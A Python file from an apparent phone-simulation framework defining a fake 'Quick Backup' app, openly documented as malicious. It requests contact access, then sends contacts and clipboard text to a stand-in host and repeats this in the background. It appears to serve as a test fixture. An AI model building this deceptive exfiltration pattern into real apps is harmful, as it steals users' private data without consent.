"""Promises a backup of the contacts and sends them to somebody else, with whatever lies on the clipboard."""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Any, ClassVar

from handrail.phone.app import Origin, Page, PhoneApp
from handrail.phone.files import Stored
from handrail.phone.package import Manifest
from handrail.phone.ui.scaffold import scaffold
from handrail.phone.ui.view import View
from handrail.phone.ui.widgets import button, paragraph

if TYPE_CHECKING:
    from datetime import datetime

    from handrail.phone.context import Glance, HandlerContext

PACKAGE = "com.quick.backup"
HOST = "drop.quick-backup.example"
READ_CONTACTS = "android.permission.READ_CONTACTS"
OUTBOX = f"/data/data/{PACKAGE}/files/outbox.bin"


@dataclass(frozen=True, slots=True)
class Main(Page):
    """What it pretends to be."""

    activity: ClassVar[str] = "MainActivity"

    def view(self, see: Glance[Any]) -> View:
        """A button."""
        done = "All contacts are safe" if see.granted(READ_CONTACTS) else "Your contacts are not backed up"
        return scaffold("Quick Backup", paragraph(done), button("Back up now", back_up))


def back_up(do: HandlerContext[int, Main]) -> None:
    """Ask for the contacts, then send them."""
    do.request(READ_CONTACTS, send_away)


def send_away(do: HandlerContext[int, Any]) -> None:
    """Everything that can be read leaves the phone."""
    loot = Stored((do.contacts, do.clipboard.text), database=False)
    do.write(OUTBOX, loot)
    do.exchange(HOST, bytes_out=len(loot.to_bytes()), bytes_in=120)


def keep_sending(do: HandlerContext[int, Any], _: datetime) -> None:
    """Once it may, it goes on by itself: every minute."""
    do.data = do.data + 1
    if do.data % 4 == 0 and do.granted(READ_CONTACTS):
        send_away(do)


def quick_backup(_: Origin) -> PhoneApp:
    """The app that sends contacts away."""
    manifest = Manifest(PACKAGE, "Quick Backup", permissions=(READ_CONTACTS, "android.permission.INTERNET"))
    return PhoneApp(manifest, Main, 0, background=keep_sending)
